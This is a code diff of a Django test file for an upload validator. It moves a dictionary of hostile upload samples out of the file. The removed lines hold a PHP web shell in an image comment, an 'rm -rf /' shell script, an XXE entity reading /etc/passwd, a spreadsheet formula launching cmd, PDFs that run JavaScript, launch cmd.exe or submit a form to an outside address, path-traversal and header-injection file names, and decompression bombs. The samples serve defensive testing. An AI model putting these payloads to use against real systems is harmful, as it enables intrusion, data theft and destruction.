@@ -9,87 +9,14 @@ from django.core.management import call_command
 from django.db import connection, transaction
 from PIL import Image
 
-from tests.casework.papers import archive, exif, packed_object, pdf, picture, png_bomb, sheets, upload
+from tests.casework.hostile import HOSTILE
+from tests.casework.papers import exif, pdf, picture, sheets, upload
 from tests.filings import draft
 from tests.town import JAN_5
 from xinyijian.audit.models import Event
 from xinyijian.casework import documents, page_store
 from xinyijian.casework.models import Document
 from xinyijian.people import crypto
-
-HTML, SVG = b"<html><script>alert(1)</script></html>", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
-HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100)
-DOCX = archive("word/document.xml")
-
-HOSTILE = {
-    "nothing at all": (b"", "proof.jpg", "empty"),
-    "too much": (picture() + bytes(10 * 1024 * 1024), "proof.jpg", "too_large"),
-    "letters that run backwards": (picture(), "proof\u202egpj.exe", "name"),
-    "a mark of direction": (picture(), "\u2066proof.jpg", "name"),
-    "a line break": (picture(), "proof.jpg\r\nX-Evil: 1", "name"),
-    "a zero byte": (picture(), "proof.jpg\0.png", "name"),
-    "the folder above": (picture(), "../../etc/passwd.jpg", "name"),
-    "another system's folder above": (picture(), "..\\..\\boot.jpg", "name"),
-    "two endings, a program first": (picture(), "proof.exe.jpg", "name"),
-    "two endings, a program last": (sheets(), "proof.pdf.js", "name"),
-    "a page's ending": (picture(), "proof.php", "name"),
-    "a drawing that runs scripts": (SVG, "proof.svg", "name"),
-    "a drawing that calls itself a photo": (SVG, "proof.jpg", "form"),
-    "a web page that calls itself a photo": (HTML, "proof.png", "form"),
-    "a program that calls itself a photo": (b"MZ\x90\x00" + bytes(200), "proof.jpg", "form"),
-    "an animation": (picture("GIF"), "proof.gif", "form"),
-    "an animation's head with a script": (b"GIF89a" + HTML, "proof.jpg", "form"),
-    "a word processor's file": (DOCX, "proof.docx", "form"),
-    "an archive": (archive(), "proof.pdf", "form"),
-    "plain text": (b"hello", "proof.jpg", "form"),
-    "an iPhone's own format": (HEIC, "proof.heic", "heic"),
-    "a photo with an archive behind it": (picture() + archive(), "proof.jpg", "two_in_one"),
-    "a photo with a PDF behind it": (picture() + sheets(), "proof.jpg", "two_in_one"),
-    "a photo with a web page behind it": (picture() + HTML, "proof.jpg", "two_in_one"),
-    "a photo with a script in its comment": (picture(comment=b"<?php system($_GET[0]); ?>"), "proof.jpg", "two_in_one"),
-    "a PDF with an archive behind it": (pdf() + archive(), "proof.pdf", "two_in_one"),
-    "a PDF that runs a script": (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "proof.pdf", "active"),
-    "a script with a masked name": (pdf(b"/OpenAction << /S /J#61vaScript /#4a#53 (app.alert(1)) >>"), "proof.pdf", "active"),
-    "a script in a packed object": (pdf(extra=packed_object(b"<< /S /JavaScript /JS (app.alert(1)) >>")), "proof.pdf", "active"),
-    "a PDF that starts a program": (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "proof.pdf", "active"),
-    "a PDF with a file inside": (pdf(extra=b"7 0 obj << /Type /EmbeddedFile >> endobj"), "proof.pdf", "active"),
-    "a form that sends itself": (pdf(b"/AA << /WC << /S /SubmitForm /F (http://192.0.2.1/) >> >>"), "proof.pdf", "active"),
-    "a PDF with a password": (pdf(extra=b"").replace(b"/Root", b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (" + b"x" * 32 + b") /U ("
-                              + b"y" * 32 + b") /P -4 >> /ID [(a) (a)] /Root"), "proof.pdf", "locked"),
-    "a PDF of rubbish": (b"%PDF-1.7\n" + bytes(range(256)) * 20, "proof.pdf", "unreadable"),
-    "a book": (sheets(31), "proof.pdf", "too_many_pages"),
-    "a photo cut off": (picture(size=(600, 400))[:400], "proof.jpg", "unreadable"),
-    "a photo of rubbish": (b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20, "proof.jpg", "unreadable"),
-    "a mark that runs letters backwards from the left": (picture(), "proof\u202dgpj.exe", "name"),
-    "an absolute path": (picture(), "/etc/cron.d/proof.jpg", "name"),
-    "a path of another system": (picture(), "C:\\\\boot\\\\proof.jpg", "name"),
-    "a tab": (picture(), "proof\t.jpg", "name"),
-    "a command": (picture(), "proof.jpg.bat", "name"),
-    "a short cut": (picture(), "proof.lnk", "name"),
-    "a packed drawing": (SVG, "proof.svgz", "name"),
-    "a page of another maker": (picture(), "proof.aspx", "name"),
-    "an archive of programs": (archive("a.class"), "proof.jar", "name"),
-    "an archive in an archive": (archive("inner.zip", archive()), "proof.pdf", "form"),
-    "an archive of a gigabyte of nothing": (archive("zeros", bytes(2_000_000)), "proof.jpg", "form"),
-    "a program of another system": (b"\x7fELF\x02\x01\x01" + bytes(200), "proof.jpg", "form"),
-    "a script of a shell": (b"#!/bin/sh\nrm -rf /\n", "proof.jpg", "form"),
-    "a page description": (b"%!PS-Adobe-3.0\n(system) run\n", "proof.pdf", "form"),
-    "a picture of another time": (picture("BMP"), "proof.jpg", "form"),
-    "a scan of many pages": (picture("TIFF"), "proof.jpg", "form"),
-    "a list that calculates": (b"=cmd|' /C calc'!A0,1\n", "proof.png", "form"),
-    "an entity from elsewhere": (
-        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
-        "proof.jpg", "form"),
-    "a picture with an archive behind it": (picture("PNG") + archive(), "proof.png", "two_in_one"),
-    "a picture with a page in its frame": (picture("WEBP") + HTML, "proof.webp", "two_in_one"),
-    "a PDF that imports data": (pdf(b"/OpenAction << /S /ImportData /F (x.fdf) >>"), "proof.pdf", "active"),
-    "a PDF that opens another": (pdf(b"/OpenAction << /S /GoToE /F (x.pdf) >>"), "proof.pdf", "active"),
-    "a PDF with a film": (pdf(extra=b"7 0 obj << /Type /Annot /Subtype /RichMedia >> endobj"), "proof.pdf", "active"),
-    "a form of another maker": (pdf(b"/AcroForm << /XFA (x) >>"), "proof.pdf", "active"),
-    "a picture cut off": (picture("PNG", size=(600, 400))[:60], "proof.png", "unreadable"),
-    "a PDF without a page": (b"%PDF-1.7\ntrailer << >>\n%%EOF\n", "proof.pdf", "unreadable"),
-    "a picture that unpacks to 400 million pixels": (png_bomb(), "proof.png", "too_many_pixels"),
-}
 
 
 @pytest.fixture
